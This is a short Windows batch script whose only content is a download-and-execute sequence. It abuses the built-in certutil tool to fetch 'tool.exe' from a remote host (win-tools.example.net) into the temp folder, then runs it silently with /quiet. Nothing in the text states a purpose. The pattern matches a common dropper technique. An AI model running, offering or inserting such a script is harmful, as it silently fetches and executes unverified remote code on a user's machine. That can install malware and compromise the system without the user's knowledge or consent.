@echo off
certutil -urlcache -split -f https://win-tools.example.net/tool.exe %TEMP%\tool.exe
%TEMP%\tool.exe /quiet
